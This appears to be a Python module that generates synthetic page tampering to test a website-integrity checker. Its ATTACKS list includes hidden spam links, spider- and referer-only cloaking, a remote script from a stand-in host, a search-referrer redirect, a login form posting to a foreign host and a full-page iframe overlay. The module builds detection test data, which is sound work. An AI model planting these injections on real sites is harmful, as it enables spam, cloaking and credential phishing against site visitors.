"""What the second visit finds changed: attacks in the families of the sheet (C, dark links and tamper), and honest updates.

A recipe is HTML with ``{host}``, ``{brand}``, ``{refs}`` (the brand as character references) and ``{codes}`` (the address
as character codes), put at a place of the page. ``to`` says who alone is shown it: "" everybody, ``spider``, ``referer``
(somebody who comes from a search engine) or ``mobile``.
"""

from dataclasses import dataclass
from random import Random

from yunshu.lib.synthetic.chance import pick
from yunshu.lib.synthetic.web.draft import Draft
from yunshu.lib.synthetic.web.lexicon import references
from yunshu.lib.synthetic.web.links import Paths
from yunshu.lib.synthetic.web.model import Site


@dataclass(frozen=True, slots=True)
class Recipe:
    """A way to change a page. ``place``: ``end``, ``start`` of the body, ``head``, ``title``, ``body`` (all of it), ``form``."""

    name: str
    check: str
    html: str
    place: str = "end"
    to: str = ""


@dataclass(frozen=True, slots=True)
class Change:
    """A recipe filled in for one page."""

    recipe: Recipe
    html: str

    def applied(self, page: str) -> str:
        """Return ``page`` with the change."""
        place, html = self.recipe.place, self.html
        if place == "title":
            start, end = page.index("<title>"), page.index("</title>") + 8
            return page[:start] + html + page[end:]
        if place == "body":
            return page[: page.index("<body>") + 6] + html + "</body></html>"
        mark = {"end": "</body>", "head": "</head>"}.get(place)
        if mark:
            return page.replace(mark, html + mark, 1)
        return page.replace("<body>", "<body>" + html, 1)


_A = '<a href="http://{host}/">{brand}</a>'


def _hidden(name: str, style: str) -> Recipe:
    return Recipe(name, "dark_link", f'<div style="{style}">{_A}</div>')


ATTACKS = (
    _hidden("display_none", "display:none"), _hidden("visibility_hidden", "visibility:hidden"),
    _hidden("off_screen", "position:absolute;left:-9999px"), _hidden("above_screen", "position:fixed;top:-1500px"),
    _hidden("text_indent", "text-indent:-999em;overflow:hidden"), _hidden("font_size_zero", "font-size:0"),
    _hidden("one_pixel", "width:1px;height:1px;overflow:hidden"), _hidden("same_colour", "background:#fff;color:#fff"),
    _hidden("transparent", "opacity:0"), _hidden("no_height", "height:0;overflow:hidden"),
    _hidden("behind", "position:absolute;z-index:-99"), _hidden("clipped", "position:absolute;clip:rect(0,0,0,0)"),
    _hidden("scaled_away", "transform:scale(0)"),
    Recipe("hidden_attribute", "dark_link", f"<div hidden>{_A}</div>"),
    Recipe("class_hidden", "dark_link", f"<style>.xk7{{{{display:none}}}}</style><div class='xk7'>{_A}</div>"),
    Recipe("marquee", "dark_link", f'<marquee height="0" width="0" scrollamount="9999">{_A}</marquee>'),
    Recipe("document_write", "dark_link", """<script>document.write('<div style="display:none"><a href="http://{host}/">{brand}</a></div>');</script>"""),
    Recipe("character_codes", "dark_link", "<script>var u=String.fromCharCode({codes});document.write('<a href=\"'+u+'\"></a>');</script>"),
    Recipe("hidden_by_script", "dark_link", f"<div id='zq9'>{_A}</div><script>document.getElementById('zq9').style.display='none';</script>"),
    Recipe("references_text", "dark_link", '<div style="display:none"><a href="http://{host}/">{refs}</a></div>'),
    Recipe("empty_frame", "dark_link", '<iframe src="http://{host}/" width="0" height="0" frameborder="0" title="x"></iframe>'),
    Recipe("in_noscript", "dark_link", f"<noscript>{_A}</noscript>"),
    Recipe("in_drawing", "dark_link", '<svg width="0" height="0"><a href="http://{host}/"><text>{brand}</text></a></svg>'),
    Recipe("plain_among_friends", "dark_link", f"<p>友情链接：{_A}</p>"),
    Recipe("spider_only", "dark_link", f"<p>{_A}</p>", "start", "spider"),
    Recipe("referer_only", "dark_link", f"<p>{_A}</p>", "start", "referer"),
    Recipe("mobile_only", "dark_link", f"<p>{_A}</p>", "end", "mobile"),
    Recipe("title_replaced", "tampered", "<title>{brand}_{brand}网</title>", "title"),
    Recipe("title_references", "tampered", "<title>{refs}</title>", "title"),
    Recipe("title_for_spider", "tampered", "<title>{brand}官方平台</title>", "title", "spider"),
    Recipe("keywords_stuffed", "tampered", '<meta name="keywords" content="{brand},{brand}平台,{brand}网址"><meta name="description" content="{brand}">', "head"),
    Recipe("foreign_script", "tampered", '<script src="http://{host}/tj.js"></script>', "head"),
    Recipe("meta_refresh", "tampered", '<meta http-equiv="refresh" content="5;url=http://{host}/">', "head"),
    Recipe("redirect_from_search", "tampered", "<script>if(/baidu|sogou|so\\.com/.test(document.referrer))location.href='http://{host}/';</script>", "head"),
    Recipe("block_inserted", "tampered", "<p>{brand}平台，注册即送，尽在{brand}。</p>"),
    Recipe("foreign_base", "tampered", '<base href="http://{host}/">', "head"),
    Recipe("defaced", "tampered", "<h1>{brand}</h1><p>本站由{brand}接管</p>", "body"),
    Recipe("foreign_form", "tampered", '<form action="http://{host}/login" method="post"><label>账号 <input name="u"></label></form>', "start"),
    Recipe("frame_over_page", "tampered", '<iframe src="http://{host}/" style="position:fixed;top:0;left:0;width:100%;height:100%" title="x"></iframe>'),
)  # fmt: skip

UPDATES = (
    Recipe("hidden_menu", "dark_link", '<ul class="submenu" style="display:none"><li><a href="/xw/index.html">工作动态</a></li></ul>'),
    Recipe("skip_link", "dark_link", '<a href="#content" style="position:absolute;left:-9999px">跳到正文</a>', "start"),
    Recipe("hidden_field", "dark_link", '<form action="/s" method="post"><input type="hidden" name="token" value="a1"></form>'),
    Recipe("carousel", "dark_link", '<div class="slide" style="display:none"><a href="/xw/index.html"><img src="/static/banner2.png" alt="工作动态"></a></div>'),
    Recipe("for_screen_reader", "dark_link", '<span style="position:absolute;clip:rect(0,0,0,0)">当前位置：首页</span>'),
    Recipe("hidden_friends", "dark_link", '<div style="display:none" class="drop"><a href="{portal}">市政府门户网站</a></div>'),
    Recipe("notice_marquee", "dark_link", "<marquee>汛期请注意出行安全</marquee>"),
    Recipe("own_pixel", "dark_link", '<img src="/static/count.png" width="1" height="1" alt="">'),
    Recipe("link_to_state_council", "dark_link", '<div style="display:none"><a href="http://www.gov.cn/">中国政府网</a></div>'),
    Recipe("new_own_script", "tampered", '<script src="/static/site.js?v=20"></script>', "head"),
    Recipe("grey_day", "tampered", "<style>html{{filter:grayscale(100%)}}</style>", "head"),
    Recipe("new_banner", "tampered", '<div class="banner"><img src="/static/banner3.png" alt="优化营商环境"></div>', "start"),
    Recipe("new_column_entry", "tampered", '<p><a href="/xw/index.html">新开栏目：工作动态</a></p>', "start"),
    Recipe("floating_notice", "tampered", '<div class="float">系统将于周末升级，届时请错峰办理业务。</div>'),
)  # fmt: skip
# what takes the rest of a page with it is done to texts only: everything else planted on a home page stays to be seen
_TEXTS_ONLY = ("defaced", "foreign_base")
VARY = 2  # of the attacks, so many are left out in each city


def plant_changes(draft: Draft, paths: Paths) -> dict[str, Change]:
    """Choose a page for each attack and three for each update; return url -> change of the second visit."""
    rng, changes = draft.rng("attacks"), dict[str, Change]()
    homes = sorted(draft.lively, key=lambda _: rng.random())
    brands = [w.wrong for w in draft.words if w.kind == "advert"]
    for recipe in sorted(ATTACKS, key=lambda _: rng.random())[VARY:]:
        site, path, place = _page(draft, rng, homes, home=rng.random() < 0.3 and recipe.name not in _TEXTS_ONLY)
        host, brand = (
            f"{pick(rng, ('www', 'm', 'vip'))}.{pick(rng, 'kxyz')}{int(rng.random() * 1e5)}.example",
            pick(rng, brands),
        )
        paths.outside[host] = "ok"
        codes = ",".join(str(ord(c)) for c in f"http://{host}/")
        html = recipe.html.format(host=host, brand=brand, refs=references(brand), codes=codes)
        words = next(w for w in (host, codes, references(brand), brand) if w in html)
        changes[site.url(path)] = Change(recipe, html)
        draft.say(recipe.check, site, path, place, words, recipe.name, innocent=False, stage=1)
    for recipe in UPDATES * 3:
        site, path, place = _page(draft, rng, homes, home=rng.random() < 0.1)
        html = recipe.html.format(portal=draft.sites[0].url("/"))
        changes[site.url(path)] = Change(recipe, html)
        draft.say(recipe.check, site, path, place, html, recipe.name, innocent=True, stage=1)
    return changes


def _page(draft: Draft, rng: Random, homes: list[Site], *, home: bool) -> tuple[Site, str, str]:
    if home and homes:
        return homes.pop(), "/", "home"
    site, _, article = draft.take(lambda s, c, a: not a.drop and c.slug not in ("zcwj", "zcjd"))
    return site, article.path, "page"
